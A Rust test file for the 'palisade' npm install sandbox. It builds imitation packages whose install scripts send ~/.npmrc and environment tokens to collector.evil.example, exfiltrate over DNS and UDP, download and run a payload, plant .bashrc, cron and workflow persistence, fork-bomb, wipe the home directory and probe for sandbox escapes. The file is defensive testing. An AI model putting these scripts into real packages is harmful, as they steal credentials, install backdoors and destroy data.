//! Harmless packages, written for these tests, that imitate what malicious install scripts do.
//! Each test asserts the behaviour is observed, contained and, where it must be, cut off.
//!
//! Without user namespaces the tests skip with the reason, except under CI=true where they fail.

use std::io::Read;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use palisade_core::Verdict;
use palisade_sandbox::{check_support, run, EventKind, Limits, Options, SandboxReport, Target};
use palisade_tarball::{PackageContents, PackageFile};

fn supported() -> bool {
    match check_support() {
        Ok(()) => true,
        Err(error) if std::env::var("CI").as_deref() == Ok("true") => {
            panic!("the sandbox must run on CI: {error}")
        }
        Err(error) => {
            eprintln!("skipping: {error}");
            false
        }
    }
}

/// Whether a tool the imitation needs is installed (curl, npm); the test skips without it.
fn have(tool: &str) -> bool {
    let found =
        std::env::var_os("PATH").is_some_and(|paths| std::env::split_paths(&paths).any(|dir| dir.join(tool).is_file()));
    if !found {
        eprintln!("skipping: `{tool}` is not installed");
    }
    found
}

/// A package named `name` with a `package.json` (scripts as JSON) and more files.
fn package(name: &str, scripts: &str, files: &[(&str, &str)]) -> Target {
    let manifest = format!(r#"{{"name":"{name}","version":"1.0.0","main":"index.js","scripts":{scripts}}}"#);
    let mut all = vec![PackageFile {
        path: "package.json".into(),
        data: manifest.into_bytes(),
        mode: 0o644,
    }];
    for (path, text) in files {
        all.push(PackageFile {
            path: (*path).into(),
            data: text.as_bytes().to_vec(),
            mode: 0o644,
        });
    }
    Target::Contents(PackageContents {
        origin: format!("test:{name}"),
        files: all,
        ..Default::default()
    })
}

fn sandbox(target: &Target, limits: Limits) -> SandboxReport {
    let options = Options {
        limits,
        ..Options::default()
    };
    match run(target, &options) {
        Ok(report) => report,
        Err(error) => panic!("sandbox run failed: {error}"),
    }
}

fn rules(report: &SandboxReport) -> Vec<&str> {
    report.findings.iter().map(|finding| finding.rule.as_str()).collect()
}

fn events(report: &SandboxReport, kind: EventKind) -> Vec<&str> {
    report
        .events
        .iter()
        .filter(|event| event.kind == kind)
        .map(|event| event.detail.as_str())
        .collect()
}

fn dump(report: &SandboxReport) -> String {
    serde_json::to_string_pretty(report).unwrap_or_default()
}

#[test]
fn a_clean_package_is_clean() {
    if !supported() {
        return;
    }
    let report = sandbox(
        &package("clean-lib", "{}", &[("index.js", "module.exports = (a, b) => a + b;")]),
        Limits::default(),
    );
    assert_eq!(report.verdict, Verdict::Clean, "{}", dump(&report));
    assert!(report.findings.is_empty(), "{}", dump(&report));
    assert_eq!(report.stages.len(), 1);
    assert_eq!(report.stages[0].name, "load");
    assert_eq!(report.stages[0].exit_code, Some(0), "{}", report.output);
}

#[test]
fn stolen_npmrc_posted_to_a_hostname_is_reported() {
    if !supported() {
        return;
    }
    let steal = r#"
const fs = require('fs'), os = require('os'), http = require('http');
const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const body = JSON.stringify({ t: Buffer.from(token).toString('base64'), env: process.env.GITHUB_TOKEN });
const req = http.request({ host: 'collector.evil.example', port: 80, method: 'POST', path: '/c' }, (res) => res.resume());
req.on('error', () => {});
req.end(body);
"#;
    let report = sandbox(
        &package(
            "steal-npmrc",
            r#"{"postinstall":"node steal.js"}"#,
            &[("steal.js", steal)],
        ),
        Limits::default(),
    );
    assert!(
        events(&report, EventKind::Honeytoken)
            .iter()
            .any(|d| d.contains("~/.npmrc")),
        "{}",
        dump(&report)
    );
    assert!(events(&report, EventKind::Dns)
        .iter()
        .any(|d| d.contains("collector.evil.example")));
    let post = report
        .network
        .iter()
        .find(|record| record.http.as_ref().is_some_and(|http| http.method == "POST"))
        .unwrap_or_else(|| panic!("no POST recorded: {}", dump(&report)));
    assert_eq!(
        post.http.as_ref().map(|http| http.host.as_str()),
        Some("collector.evil.example")
    );
    assert!(
        post.canaries.contains(&"~/.npmrc".to_string()),
        "base64 canary missed: {:?}",
        post.canaries
    );
    assert!(post.canaries.contains(&"env:GITHUB_TOKEN".to_string()));
    assert!(rules(&report).contains(&"sandbox-network-exfil"));
    assert!(rules(&report).contains(&"sandbox-honeytoken-read"));
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(report.summary.connections, 1, "{:?}", report.summary);
    assert!(report.summary.honeytokens >= 2, "{:?}", report.summary);
    assert!(report
        .summary
        .capabilities
        .contains(&palisade_core::Capability::Credentials));
    assert_eq!(report.stages[0].name, "postinstall");
    assert!(report.events.iter().any(|e| e.stage.as_deref() == Some("postinstall")));
}

#[test]
fn canary_in_a_dns_label_is_reported() {
    if !supported() {
        return;
    }
    let script = "require('dns').lookup(process.env.NPM_TOKEN.toLowerCase() + '.t.evil.example', () => {});\n\
                  const udp = require('dgram').createSocket('udp4');\n\
                  udp.send(Buffer.from('k=' + process.env.GITHUB_TOKEN), 9999, '192.0.2.44', () => udp.close());";
    let report = sandbox(
        &package("dns-exfil", r#"{"preinstall":"node x.js"}"#, &[("x.js", script)]),
        Limits::default(),
    );
    assert!(
        report
            .network
            .iter()
            .any(|r| r.protocol == "dns" && r.canaries.contains(&"env:NPM_TOKEN".to_string())),
        "{}",
        dump(&report)
    );
    let datagram = report
        .network
        .iter()
        .find(|r| r.protocol == "udp")
        .unwrap_or_else(|| panic!("no datagram: {}", dump(&report)));
    assert_eq!((datagram.host.as_str(), datagram.port), ("192.0.2.44", 9999));
    assert_eq!(datagram.canaries, vec!["env:GITHUB_TOKEN".to_string()]);
    assert!(rules(&report).contains(&"sandbox-network-exfil"));
}

#[test]
fn shell_spawned_from_javascript_is_reported() {
    if !supported() {
        return;
    }
    let script = "require('child_process').execSync('id -u > /tmp/who; uname -a', { stdio: 'inherit' });";
    let report = sandbox(
        &package("spawn-shell", r#"{"install":"node x.js"}"#, &[("x.js", script)]),
        Limits::default(),
    );
    let exec = report
        .events
        .iter()
        .find(|e| e.kind == EventKind::Exec && e.detail.starts_with("/bin/sh -c id -u"))
        .unwrap_or_else(|| panic!("{}", dump(&report)));
    assert_eq!(exec.parent.as_deref(), Some("node"));
    assert!(events(&report, EventKind::Exec).iter().any(|d| d.starts_with("uname")));
    assert!(events(&report, EventKind::FileWrite).contains(&"/tmp/who"));
    assert!(rules(&report).contains(&"sandbox-shell-exec"));
    // The sandbox user is uid 1000 inside, whoever runs palisade.
    assert!(report.output.contains("Linux sandbox"), "{}", report.output);
}

#[test]
fn downloaded_file_made_executable_is_reported() {
    if !supported() || !have("curl") {
        return;
    }
    let script = "curl -s -o /tmp/payload http://dl.evil.example/payload; chmod +x /tmp/payload; /tmp/payload || true";
    let report = sandbox(
        &package("dropper", &format!(r#"{{"postinstall":"{script}"}}"#), &[]),
        Limits::default(),
    );
    assert!(
        events(&report, EventKind::Exec).iter().any(|d| d.starts_with("curl")),
        "{}",
        dump(&report)
    );
    assert!(report
        .network
        .iter()
        .any(|r| r.host == "dl.evil.example" && r.port == 80));
    assert!(events(&report, EventKind::FileWrite)
        .iter()
        .any(|d| d.starts_with("/tmp/payload (chmod")));
    for rule in [
        "sandbox-download-exec",
        "sandbox-suspicious-exec",
        "sandbox-network-connect",
    ] {
        assert!(rules(&report).contains(&rule), "{rule}: {}", dump(&report));
    }
}

#[test]
fn persistence_writes_are_reported_and_host_files_untouched() {
    if !supported() {
        return;
    }
    // Sentinels on the host, in the real temp dir and the real home.
    let sentinel_dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let sentinel = sentinel_dir.path().join("sentinel.txt");
    std::fs::write(&sentinel, "untouched").unwrap_or_else(|e| panic!("{e}"));
    let real_home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let home_sentinel = std::path::Path::new(&real_home).join(format!(".palisade-sentinel-{}", std::process::id()));
    std::fs::write(&home_sentinel, "untouched").unwrap_or_else(|e| panic!("{e}"));
    let script = format!(
        "echo 'curl http://evil.example/x | sh' >> ~/.bashrc; \
         mkdir -p $INIT_CWD/.github/workflows && echo 'on: push' > $INIT_CWD/.github/workflows/x.yml; \
         echo pwned > {sentinel}; rm -f {home_sentinel}; echo pwned > {real_home}/.bashrc; \
         echo '* * * * * sh /tmp/x' | crontab - ; true",
        sentinel = sentinel.display(),
        home_sentinel = home_sentinel.display(),
    );
    let report = sandbox(
        &package(
            "persist",
            &format!(r#"{{"postinstall":{}}}"#, serde_json::json!(script)),
            &[],
        ),
        Limits::default(),
    );
    let writes = events(&report, EventKind::FileWrite);
    assert!(writes.contains(&"/home/node/.bashrc"), "{}", dump(&report));
    assert!(writes.contains(&"/app/.github/workflows/x.yml"), "{}", dump(&report));
    let persistence = report
        .findings
        .iter()
        .find(|f| f.rule == "sandbox-persistence-write")
        .unwrap_or_else(|| panic!("{}", dump(&report)));
    let evidence = persistence.evidence.clone().unwrap_or_default();
    assert!(
        evidence.contains("GitHub Actions workflow") && evidence.contains("shell startup file"),
        "{evidence}"
    );
    assert_eq!(report.verdict, Verdict::Malicious);
    // Nothing reached the host.
    assert_eq!(std::fs::read_to_string(&sentinel).unwrap_or_default(), "untouched");
    assert_eq!(std::fs::read_to_string(&home_sentinel).unwrap_or_default(), "untouched");
    let _ = std::fs::remove_file(&home_sentinel);
}

#[test]
fn direct_ip_connections_stay_inside_and_host_loopback_is_unreachable() {
    if !supported() || !have("curl") {
        return;
    }
    let host_listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    host_listener.set_nonblocking(true).unwrap_or_else(|e| panic!("{e}"));
    let port = host_listener.local_addr().map(|a| a.port()).unwrap_or(0);
    let script = format!(
        "curl -s -m 3 http://203.0.113.7:8080/beacon?id=1; \
         node -e \"require('net').connect({port}, '127.0.0.1').on('error', () => {{}})\"; \
         node -e \"require('net').connect(12345, '198.51.100.9').on('error', () => {{}})\"; true"
    );
    let report = sandbox(
        &package(
            "ip-beacon",
            &format!(r#"{{"postinstall":{}}}"#, serde_json::json!(script)),
            &[],
        ),
        Limits::default(),
    );
    let connects = events(&report, EventKind::Connect);
    assert!(
        connects.iter().any(|d| d.contains("203.0.113.7:8080")),
        "{}",
        dump(&report)
    );
    assert!(
        connects.iter().any(|d| d.contains(&format!("127.0.0.1:{port}"))),
        "{}",
        dump(&report)
    );
    assert!(
        connects.iter().any(|d| d.contains("198.51.100.9:12345")),
        "{}",
        dump(&report)
    );
    let beacon = report
        .network
        .iter()
        .find(|r| r.port == 8080)
        .unwrap_or_else(|| panic!("the sink did not get the beacon: {}", dump(&report)));
    assert_eq!(beacon.host, "203.0.113.7");
    assert_eq!(beacon.http.as_ref().map(|h| h.path.as_str()), Some("/beacon?id=1"));
    // The host's loopback listener saw nothing.
    match host_listener.accept() {
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
        Ok((mut stream, peer)) => {
            let mut data = Vec::new();
            let _ = stream.read_to_end(&mut data);
            panic!("the sandbox reached the host listener from {peer}: {data:?}");
        }
        Err(error) => panic!("{error}"),
    }
}

#[test]
fn fork_bomb_is_cut_off() {
    if !supported() {
        return;
    }
    let started = Instant::now();
    let report = sandbox(
        &package("fork-bomb", r#"{"preinstall":"b() { b & b & wait; }; b"}"#, &[]),
        Limits {
            wall_time: Duration::from_secs(30),
            max_processes: 32,
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit)
            .iter()
            .any(|d| d.starts_with("processes")),
        "{}",
        dump(&report)
    );
    assert!(rules(&report).contains(&"sandbox-limit"));
    assert!(
        started.elapsed() < Duration::from_secs(25),
        "took {:?}",
        started.elapsed()
    );
}

#[test]
fn sleeping_forever_hits_the_wall_time() {
    if !supported() {
        return;
    }
    let started = Instant::now();
    let report = sandbox(
        &package("sleeper", r#"{"install":"sleep 100000"}"#, &[]),
        Limits {
            wall_time: Duration::from_secs(2),
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit)
            .iter()
            .any(|d| d.starts_with("wall time")),
        "{}",
        dump(&report)
    );
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "took {:?}",
        started.elapsed()
    );
    assert_eq!(report.stages.len(), 1, "{:?}", report.stages);
    assert_eq!(
        (report.stages[0].exit_code, report.stages[0].outcome.as_str()),
        (None, "killed")
    );
    assert!(report.stages[0].duration_ms >= 1500, "{:?}", report.stages);
}

#[test]
fn background_process_is_killed_at_the_end() {
    if !supported() {
        return;
    }
    // A detached payload keeps running after the script exits; it dies with the namespace.
    let started = Instant::now();
    let report = sandbox(
        &package("detached", r#"{"postinstall":"(sleep 100000 &) ; echo started"}"#, &[]),
        Limits {
            wall_time: Duration::from_secs(30),
            ..Limits::default()
        },
    );
    assert_eq!(report.stages[0].exit_code, Some(0));
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "took {:?}",
        started.elapsed()
    );
    assert!(events(&report, EventKind::Exec)
        .iter()
        .any(|d| d.starts_with("sleep 100000")));
}

#[test]
fn writing_ten_gigabytes_is_cut_off() {
    if !supported() {
        return;
    }
    let report = sandbox(
        &package(
            "disk-filler",
            r#"{"postinstall":"dd if=/dev/zero of=/tmp/big bs=1M count=10240"}"#,
            &[],
        ),
        Limits {
            max_file_bytes: 16 << 20,
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit)
            .iter()
            .any(|d| d.starts_with("file size")),
        "{}",
        dump(&report)
    );
    assert_ne!(report.stages[0].exit_code, Some(0));
}

#[test]
fn cpu_and_output_limits() {
    if !supported() {
        return;
    }
    let report = sandbox(
        &package("spinner", r#"{"preinstall":"while :; do :; done"}"#, &[]),
        Limits {
            cpu_seconds: 1,
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit).iter().any(|d| d.starts_with("cpu")),
        "{}",
        dump(&report)
    );
    let report = sandbox(
        &package("chatty", r#"{"preinstall":"yes"}"#, &[]),
        Limits {
            max_output_bytes: 64 * 1024,
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit)
            .iter()
            .any(|d| d.starts_with("output")),
        "{}",
        dump(&report)
    );
    assert!(report.output.len() <= 64 * 1024);
}

#[test]
fn memory_limit() {
    if !supported() {
        return;
    }
    let script = "const a = []; while (true) a.push(Buffer.alloc(1 << 26, 1));";
    let report = sandbox(
        &package("memory-hog", r#"{"postinstall":"node x.js"}"#, &[("x.js", script)]),
        Limits {
            memory_bytes: 1 << 30,
            ..Limits::default()
        },
    );
    assert!(
        events(&report, EventKind::Limit)
            .iter()
            .any(|d| d.starts_with("memory")),
        "{}",
        dump(&report)
    );
}

#[test]
fn es_module_entry_point_is_imported() {
    if !supported() {
        return;
    }
    let index = "import http from 'node:http';\nhttp.get('http://esm.evil.example/p', (r) => r.resume()).on('error', () => {});\nexport default 1;\n";
    let target = Target::Contents(PackageContents {
        origin: "test:esm".into(),
        files: vec![
            PackageFile {
                path: "package.json".into(),
                data: br#"{"name":"esm-only","version":"2.0.0","type":"module","exports":{"import":"./index.js"}}"#
                    .to_vec(),
                mode: 0o644,
            },
            PackageFile {
                path: "index.js".into(),
                data: index.as_bytes().to_vec(),
                mode: 0o644,
            },
        ],
        ..Default::default()
    });
    let report = sandbox(&target, Limits::default());
    assert!(
        report
            .network
            .iter()
            .any(|r| r.host == "esm.evil.example" && r.protocol == "tcp"),
        "{}",
        dump(&report)
    );
    let load = report
        .events
        .iter()
        .find(|e| e.kind == EventKind::Dns)
        .map(|e| e.stage.clone());
    assert_eq!(load, Some(Some("load".to_string())));
    assert_eq!(report.package.version, "2.0.0");
}

#[test]
fn worm_republishing_and_environment_harvest_are_reported() {
    if !supported() || !have("npm") {
        return;
    }
    // Shai-Hulud style: read the process environment, then republish with the stolen token.
    let script = "cat /proc/self/environ > /dev/null; npm publish --registry https://registry.npmjs.org/ --fetch-retries=0 || true";
    let report = sandbox(
        &package(
            "worm",
            &format!(r#"{{"postinstall":"{script}"}}"#),
            &[("index.js", "module.exports = 1;")],
        ),
        Limits {
            wall_time: Duration::from_secs(40),
            ..Limits::default()
        },
    );
    eprintln!("worm run: {} ms, stages {:?}", report.duration_ms, report.stages);
    assert!(rules(&report).contains(&"sandbox-npm-publish"), "{}", dump(&report));
    assert!(rules(&report).contains(&"sandbox-sensitive-read"), "{}", dump(&report));
    assert_eq!(report.verdict, Verdict::Malicious);
    // npm reads the canary ~/.npmrc for its token and tries the registry: the sink sees TLS.
    assert!(
        events(&report, EventKind::Honeytoken)
            .iter()
            .any(|d| d.contains("~/.npmrc")),
        "{}",
        dump(&report)
    );
    assert!(
        report
            .network
            .iter()
            .any(|r| r.tls_sni.as_deref() == Some("registry.npmjs.org") && r.port == 443),
        "{}",
        dump(&report)
    );
}

#[test]
fn namespace_and_kernel_interfaces_are_refused_inside() {
    if !supported() {
        return;
    }
    // Escapes and kernel attack surface: new namespaces, mounts, ptrace. Each must fail inside,
    // while ordinary process creation (node spawning a child) keeps working.
    let script = "unshare -U true && echo UNSHARE-OK; \
                  mount -t tmpfs none /tmp 2>/dev/null && echo MOUNT-OK; \
                  node -e \"require('child_process').execFileSync('true'); console.log('SPAWN-OK')\"";
    let report = sandbox(
        &package(
            "escape",
            &format!(r#"{{"preinstall":{}}}"#, serde_json::json!(script)),
            &[],
        ),
        Limits::default(),
    );
    assert!(!report.output.contains("UNSHARE-OK"), "{}", report.output);
    assert!(!report.output.contains("MOUNT-OK"), "{}", report.output);
    assert!(report.output.contains("SPAWN-OK"), "{}", report.output);
}

#[test]
fn wiping_the_home_is_reported() {
    if !supported() {
        return;
    }
    let script = "const fs = require('fs'); fs.rmSync(require('os').homedir(), { recursive: true, force: true });";
    let report = sandbox(
        &package("wiper", r#"{"postinstall":"node wipe.js"}"#, &[("wipe.js", script)]),
        Limits::default(),
    );
    let finding = report
        .findings
        .iter()
        .find(|f| f.rule == "sandbox-destructive")
        .unwrap_or_else(|| panic!("{}", dump(&report)));
    assert!(
        finding.evidence.as_deref().unwrap_or_default().contains("/home/node/"),
        "{finding:?}"
    );
    assert_eq!(report.verdict, Verdict::Malicious);
    // The loader's source is not repeated in the timeline.
    assert!(events(&report, EventKind::Exec)
        .iter()
        .any(|d| d.starts_with("node -e <palisade entry loader> wiper")));
}

#[test]
fn descriptors_of_the_host_process_are_not_inherited() {
    if !supported() {
        return;
    }
    // A host file opened without close-on-exec (as C libraries sometimes do): the sandboxed
    // processes must not be able to read it through an inherited descriptor.
    use std::os::fd::AsRawFd;
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let secret = dir.path().join("host-secret.txt");
    std::fs::write(&secret, "HOST-SECRET-CONTENT").unwrap_or_else(|e| panic!("{e}"));
    let file = std::fs::File::open(&secret).unwrap_or_else(|e| panic!("{e}"));
    nix::fcntl::fcntl(&file, nix::fcntl::FcntlArg::F_SETFD(nix::fcntl::FdFlag::empty()))
        .unwrap_or_else(|e| panic!("{e}"));
    let fd = file.as_raw_fd();
    let script = format!("ls /proc/self/fd; cat <&{fd}; cat /proc/self/fd/{fd}; echo INJECTED > /proc/1/fd/2; true");
    let report = sandbox(
        &package(
            "fd-probe",
            &format!(r#"{{"install":{}}}"#, serde_json::json!(script)),
            &[],
        ),
        Limits::default(),
    );
    assert!(!report.output.contains("HOST-SECRET-CONTENT"), "{}", report.output);
    // Nor through the sandbox init's descriptors.
    assert!(
        report.output.contains("/proc/1/fd/2: Permission denied"),
        "{}",
        report.output
    );
    drop(file);
}

#[test]
fn host_unix_sockets_are_unreachable() {
    if !supported() {
        return;
    }
    // An abstract unix socket (D-Bus, X11 and container runtimes use them) and a path socket in
    // the host's /tmp: both are outside the sandbox's network namespace and root.
    use std::os::linux::net::SocketAddrExt;
    let name = format!("palisade-sandbox-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let abstract_listener = std::os::unix::net::UnixListener::bind_addr(&address).unwrap_or_else(|e| panic!("{e}"));
    abstract_listener
        .set_nonblocking(true)
        .unwrap_or_else(|e| panic!("{e}"));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let path = dir.path().join("host.sock");
    let path_listener = std::os::unix::net::UnixListener::bind(&path).unwrap_or_else(|e| panic!("{e}"));
    path_listener.set_nonblocking(true).unwrap_or_else(|e| panic!("{e}"));
    let script = format!(
        "const net = require('net');\n\
         for (const p of ['\\0{name}', {path:?}]) {{\n\
           net.connect(p).on('connect', () => console.log('CONNECTED', JSON.stringify(p))).on('error', (e) => console.log('refused', e.code));\n\
         }}",
        path = path.display().to_string()
    );
    let report = sandbox(
        &package(
            "unix-probe",
            r#"{"postinstall":"node probe.js"}"#,
            &[("probe.js", &script)],
        ),
        Limits::default(),
    );
    assert!(!report.output.contains("CONNECTED"), "{}", report.output);
    assert_eq!(report.output.matches("refused").count(), 2, "{}", report.output);
    for listener in [&abstract_listener, &path_listener] {
        assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
    }
}
